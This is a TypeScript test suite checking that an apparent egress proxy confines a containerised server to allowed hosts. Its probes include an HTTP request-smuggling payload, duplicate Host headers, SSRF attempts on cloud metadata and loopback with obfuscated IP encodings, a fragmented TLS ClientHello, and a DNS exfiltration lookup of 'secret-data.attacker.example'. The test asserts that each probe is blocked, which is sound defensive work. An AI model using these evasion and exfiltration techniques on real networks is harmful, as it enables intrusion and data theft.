/**
 * What a server with `network:` reaches, and what it does not, from inside its container.
 *
 * @module
 */
import assert from "node:assert/strict";
import { networkInterfaces } from "node:os";
import { test } from "node:test";
import { runProbe, startOutside, withEgress } from "../support/egress.ts";
import { linesOf, until, useEngine } from "../support/engine.ts";

const { docker, skip } = await useEngine();
const story = (name: string, run: () => Promise<void>) =>
  void test(name, { skip, timeout: 40_000 }, run);

const outside = skip === false ? await startOutside(docker) : undefined;
const { address = "", https = 0, http = 0, echo = 0, greeting = 0 } = outside ?? {};
const at = (host: string) => ({ host, address });
const extraHosts = ["allowed.example", "other.example", "denied.example", "a.wild.example"].map(at);

/** Runs `use` beside a container that Docker's own DNS knows by `alias`, where the proxies look names up. */
async function withOuterContainer(alias: string, use: () => Promise<void>): Promise<void> {
  const filters = { label: [`dev.mcp-runner.owner=${docker.owner}`], name: ["outside"] };
  const api = docker.engine.docker;
  const [outer] = await api.listNetworks({ filters });
  const container = await docker.runScript("process.stdin.resume()");
  try {
    await api.getNetwork("none").disconnect({ Container: container.id, Force: true });
    const options = { Container: container.id, EndpointConfig: { Aliases: [alias] } };
    await api.getNetwork(outer?.Id ?? "").connect(options);
    await use();
  } finally {
    await container.stop(0);
  }
}

story("fetch() reaches an allowed host with its real certificate, and no other one", async () => {
  const targets = [{ host: "allowed.example", port: https }, {
    host: "other.example",
    port: https,
  }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe, events }) => {
    const script = `print([
      await text("https://allowed.example:${https}/"),
      await text("https://denied.example:${https}/"),
    ])`;
    // Without our variables: a name leads to the proxy, which reads the name in TLS.
    assert.deepEqual(await probe(script, {}), ["secure allowed.example", "failed ENOTFOUND"]);
    // With them: CONNECT.
    const [allowed, denied] = await probe(script) as string[];
    assert.equal(allowed, "secure allowed.example");
    assert.match(denied ?? "", /^failed /);
    const told = events.map(({ host, port, reason }) => ({ host, port, reason }));
    assert.deepEqual(told, [
      { host: "denied.example", port: undefined, reason: "is not allowed (DNS)" },
      { host: "denied.example", port: https, reason: "is not allowed" },
    ]);
  });
});

story("the name in TLS decides, whichever address it is sent to", async () => {
  const targets = [{ host: "allowed.example", port: https }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe, events }) => {
    const found = await probe(`
      const shake = (servername) => new Promise((resolve) => {
        const socket = tls.connect({ host: "allowed.example", port: ${https}, servername, ca,
          checkServerIdentity: () => undefined });
        socket.on("secureConnect", () => { socket.destroy(); resolve("connected"); });
        socket.on("error", (error) => resolve(error.code));
      });
      print([await shake("allowed.example"), await shake("denied.example"), await shake("")]);
    `);
    assert.deepEqual(found, ["connected", "ECONNRESET", "ECONNRESET"]);
    assert.deepEqual(events.map(({ host, port, reason }) => [host, port, reason]), [
      ["denied.example", https, "is not allowed"],
      ["allowed.example", https, "names no host in TLS"],
    ]);
  });
});

story("a ClientHello that is split over records and packets is read all the same", async () => {
  const targets = [{ host: "allowed.example", port: https }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe }) => {
    const found = await probe(`
      const split = (servername) => new Promise((resolve) => {
        const raw = net.connect({ host: "allowed.example", port: ${https}, noDelay: true });
        let first = true;
        const wire = new stream.Duplex({
          read() {},
          write(chunk, encoding, done) {
            if (!first) return raw.write(chunk, done);
            first = false;
            const body = chunk.subarray(5);
            const records = [];
            for (let at = 0; at < body.length; at += 7) {
              const part = body.subarray(at, at + 7);
              records.push(Buffer.concat([Buffer.from([22, 3, 1, 0, part.length]), part]));
            }
            const bytes = Buffer.concat(records);
            raw.write(bytes.subarray(0, 3));
            setTimeout(() => raw.write(bytes.subarray(3, 101)), 20);
            setTimeout(() => raw.write(bytes.subarray(101), done), 40);
          },
        });
        raw.on("data", (chunk) => wire.push(chunk)).on("end", () => wire.push(null));
        raw.on("error", (error) => resolve(error.code));
        const socket = tls.connect({ socket: wire, servername, ca });
        socket.on("secureConnect", () => resolve("connected")).on("error", (error) => resolve(error.code));
      });
      print([await split("allowed.example"), await split("denied.example")]);
    `);
    assert.deepEqual(found, ["connected", "ECONNRESET"]);
  });
});

story("plain HTTP is judged request by request", async () => {
  const targets = [{ host: "allowed.example", port: http }, { host: "*.wild.example", port: http }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe, events }) => {
    const before = outside?.requests.length;
    const [fetched, wild, kept, smuggled, doubled] = await probe(
      `
      const request = (host, more = "") => "GET /x HTTP/1.1\\r\\nHost: " + host + ":${http}\\r\\n" + more + "\\r\\n";
      const to = (input) => talk("allowed.example", ${http}, input);
      print([
        await text("http://allowed.example:${http}/path?query", { method: "POST", body: "data" }),
        await text("http://a.wild.example:${http}/"),
        await to(request("allowed.example") + request("denied.example")),
        await to("POST /y HTTP/1.1\\r\\nHost: allowed.example:${http}\\r\\nContent-Length: 4\\r\\n" +
          "Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + request("denied.example")),
        await to(request("allowed.example", "Host: denied.example:${http}\\r\\n")),
      ]);
    `,
      {},
    ) as string[];
    assert.equal(fetched, `POST allowed.example:${http}/path?query`);
    assert.equal(wild, `GET a.wild.example:${http}/`);
    assert.match(kept ?? "", /^HTTP\/1\.1 200 [^]*GET allowed[^]*HTTP\/1\.1 403 /);
    assert.match(smuggled ?? "", /^HTTP\/1\.1 400 /);
    assert.match(doubled ?? "", /^HTTP\/1\.1 403 /);
    assert.deepEqual(outside?.requests.slice(before), [
      `POST allowed.example:${http}/path?query`,
      `GET a.wild.example:${http}/`,
      `GET allowed.example:${http}/x`,
    ]);
    assert.deepEqual(events.map(({ host, reason }) => [host, reason]), [
      ["denied.example", "is not allowed"],
      ["(none)", "names two hosts"],
    ]);
  });
});

story("the proxy port serves CONNECT and whole URLs, to allowed places only", async () => {
  const targets = [{ host: "allowed.example", port: http }, {
    host: "allowed.example",
    port: echo,
  }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe }) => {
    const [fetched, whole, refused, upgraded, tunnel, denied, inner] = await probe(`
      const { hostname, port } = new URL(process.env.HTTP_PROXY);
      const to = (input, until) => talk(hostname, Number(port), input, until);
      const connect = (place, more = "") => "CONNECT " + place + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n" + more;
      print([
        await text("http://allowed.example:${http}/env"),
        await to("GET http://allowed.example:${http}/w HTTP/1.1\\r\\nHost: denied.example\\r\\nConnection: close\\r\\n\\r\\n"),
        await to("GET http://denied.example:${http}/w HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n"),
        await talk("allowed.example", ${http}, "GET /u HTTP/1.1\\r\\nHost: allowed.example:${http}\\r\\n" +
          "Connection: Upgrade\\r\\nUpgrade: echo\\r\\n\\r\\nping", "ping"),
        await to(connect("allowed.example:${echo}", "ping"), "ping"),
        await to(connect("denied.example:${echo}")),
        await to(connect("allowed.example:${http}", "GET / HTTP/1.1\\r\\nHost: denied.example:${http}\\r\\nConnection: close\\r\\n\\r\\n")),
      ]);
    `) as string[];
    assert.equal(fetched, `GET allowed.example:${http}/env`);
    assert.match(whole ?? "", new RegExp(`GET allowed\\.example:${http}/w$`));
    assert.match(refused ?? "", /^HTTP\/1\.1 403 /);
    assert.match(upgraded ?? "", /^HTTP\/1\.1 101 [^]*ping$/);
    assert.match(tunnel ?? "", /^HTTP\/1\.1 200 [^]*ping$/);
    assert.match(denied ?? "", /^HTTP\/1\.1 403 [^]*denied\.example:\d+ is not allowed/);
    assert.match(inner ?? "", /^HTTP\/1\.1 200 [^]*HTTP\/1\.1 403 /);
  });
});

story("other protocols reach the only target of their port, or one named by CONNECT", async () => {
  const targets = [
    { host: "allowed.example", port: echo },
    { host: "allowed.example", port: greeting },
    { host: "allowed.example", port: https },
    { host: "other.example", port: https },
    { host: address, port: echo + 1 },
  ];
  await withEgress(docker, { targets, extraHosts }, async ({ probe, events }) => {
    const [first, second, ambiguous] = await probe(`print([
      await talk("allowed.example", ${echo}, "ping", "ping"),
      await talk("allowed.example", ${greeting}, undefined, "hello"),
      await talk("allowed.example", ${https}, "ping"),
    ])`) as string[];
    assert.deepEqual([first, second, ambiguous], ["ping", "hello\n", "ECONNRESET"]);
    assert.deepEqual(events.map(({ port, reason }) => [port, reason]), [
      [https, "does not tell which host it means"],
    ]);
  });
});

story(
  "nothing else is within reach: this machine, its networks, metadata, other servers",
  async () => {
    const eth = Object.values(networkInterfaces()).flat()
      .filter((each) => each?.family === "IPv4" && !each.internal).map((each) =>
        each?.address ?? ""
      );
    const neighbour = {
      targets: [{ host: "allowed.example", port: echo }],
      extraHosts,
      server: "b",
    };
    await withEgress(docker, neighbour, async (b) => {
      const listening = `
      net.createServer().listen(7000, () => print(
        Object.values(require("node:os").networkInterfaces()).flat().find((x) => !x.internal).address));
      setInterval(() => {}, 1000);`;
      const other = await docker.runScript(
        listening.replace("print(", "((x) => console.log(x))(")
          .replace("net.", 'require("node:net").'),
        { network: b.network },
      );
      const otherAddress = await linesOf((listener) => other.onLine(listener))();
      const targets = [{ host: "allowed.example", port: https }];
      await withEgress(docker, { targets, extraHosts }, async ({ probe, network }) => {
        const [proxy = ""] = network.dns;
        const gateway = proxy.replace(/\.\d+$/, ".1");
        const before = outside?.connections();
        const places = [
          ...[...new Set(["172.17.0.1", ...eth, gateway])].flatMap((ip) => [[ip, 9], [ip, 22]]),
          [address, https],
          [address, echo],
          ["169.254.169.254", 80],
          ["1.1.1.1", 443],
          [otherAddress, 7000],
          [b.network.dns[0], echo],
          [proxy, 22],
        ];
        const found = await probe(`
        const reach = ([host, port]) => new Promise((resolve) => {
          const socket = net.connect({ host, port, timeout: 3000 });
          socket.on("connect", () => resolve(host + " connected")).on("timeout", () => resolve("nothing"));
          socket.on("error", ({ code }) => resolve(
            /EHOSTUNREACH|ENETUNREACH|ETIMEDOUT/.test(code) ? "nothing" : host + " " + code));
        });
        print([...new Set(await Promise.all(${JSON.stringify(places)}.map(reach)))]);
      `);
        // The proxy itself is the one thing that may answer, and it has nothing at that port.
        assert.deepEqual(found, ["nothing", `${proxy} ECONNREFUSED`]);
        assert.equal(outside?.connections(), before);
      });
      await other.stop(0);
    });
  },
);

story("CONNECT to an address is refused unless the config names that very address", async () => {
  const targets = [{ host: "*", port: https }, { host: "*", port: echo }, {
    host: address,
    port: echo,
  }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe, events }) => {
    const found = await probe(`
      const { hostname, port } = new URL(process.env.HTTP_PROXY);
      const connect = async (place) => (await talk(hostname, Number(port),
        "CONNECT " + place + " HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n", "\\r\\n\\r\\n")).split(" ")[1];
      const answers = [];
      for (const place of ["${address}:${echo}", "${address}:${https}", "169.254.169.254:${https}",
        "127.0.0.1:${https}", "[::1]:${https}", "[::ffff:${address}]:${echo}", "0x7f.1:${https}", "2130706433:${https}"]) {
        answers.push(await connect(place));
      }
      print(answers);
    `);
    assert.deepEqual(found, ["200", "403", "403", "403", "403", "403", "403", "403"]);
    assert.ok(
      events.some(({ reason }) => reason === "leads to an address that is not public (metadata)"),
    );
  });
});

story(
  "a name that leads to an address that is not public (private) is refused, though it is allowed",
  async () => {
    const targets = [{ host: "*.rebound.example", port: echo }];
    await withEgress(docker, { targets }, async ({ probe, events }) => {
      await withOuterContainer("a.rebound.example", async () => {
        const found = await probe(`
      const { hostname, port } = new URL(process.env.HTTP_PROXY);
      print(await talk(hostname, Number(port), "CONNECT a.rebound.example:${echo} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"));
    `);
        assert.match(String(found), /^HTTP\/1\.1 403 /);
        assert.deepEqual(events.map(({ host, reason }) => [host, reason]), [
          ["a.rebound.example", "leads to an address that is not public (private)"],
        ]);
      });
    });
  },
);

story("names that are not allowed do not exist, and no question leaves", async () => {
  const targets = [{ host: "*.wild.example", port: https }];
  await withEgress(docker, { targets, extraHosts }, async ({ probe, events, network }) => {
    const found = await probe(`
      const ask = async (run) => { try { return await run(); } catch (error) { return error.code; } };
      print([
        await ask(() => dns.resolve4("x.wild.example")),
        await ask(() => dns.resolve4("X.Y.WILD.example")),
        await ask(() => dns.resolve6("x.wild.example")),
        await ask(() => dns.resolveTxt("x.wild.example")),
        await ask(() => dns.resolve4("wild.example")),
        await ask(() => dns.resolve4("secret-data.attacker.example")),
        await ask(() => dns.resolveTxt("secret-data.attacker.example")),
      ]);
    `);
    const { dns: ours } = network;
    const none = "ENOTFOUND";
    assert.deepEqual(found, [ours, ours, "ENODATA", "ENODATA", none, none, none]);
    await until("the events", () => events.length === 2);
    assert.deepEqual(events.map(({ host, reason }) => [host, reason]), [
      ["wild.example", "is not allowed (DNS)"],
      ["secret-data.attacker.example", "is not allowed (DNS)"],
    ]);
  });
});

story(
  "an exact name is looked up outside, and not among the names of the inner network",
  async () => {
    // No extra host: this is the way that every name of the internet goes.
    const targets = [{ host: "exact.example", port: echo }, { host: "none.example", port: echo }];
    await withEgress(docker, { targets }, async ({ probe, events }) => {
      await withOuterContainer("exact.example", async () => {
        const found = await probe(`
        const { hostname, port } = new URL(process.env.HTTP_PROXY);
        const connect = (host) => talk(hostname, Number(port),
          "CONNECT " + host + ":${echo} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");
        print([await connect("exact.example"), await connect("none.example")]);
      `) as string[];
        assert.match(found[0] ?? "", /^HTTP\/1\.1 403 [^]*\(private\)/);
        assert.match(found[1] ?? "", /^HTTP\/1\.1 502 [^]*Cannot reach none\.example/);
      });
      assert.deepEqual(events.map(({ host, reason }) => [host, reason]), [
        ["exact.example", "leads to an address that is not public (private)"],
      ]);
    });
  },
);

story("exact names lead to the proxy also where the engine asks no DNS server", async () => {
  const targets = [{ host: "allowed.example", port: echo }];
  await withEgress(docker, { targets, extraHosts }, async ({ network }) => {
    const found = await runProbe(
      docker,
      `print(await talk("allowed.example", ${echo}, "ping", "ping"))`,
      { ...network, dns: ["127.0.0.1"], env: {} },
    );
    assert.equal(found, "ping");
  });
});
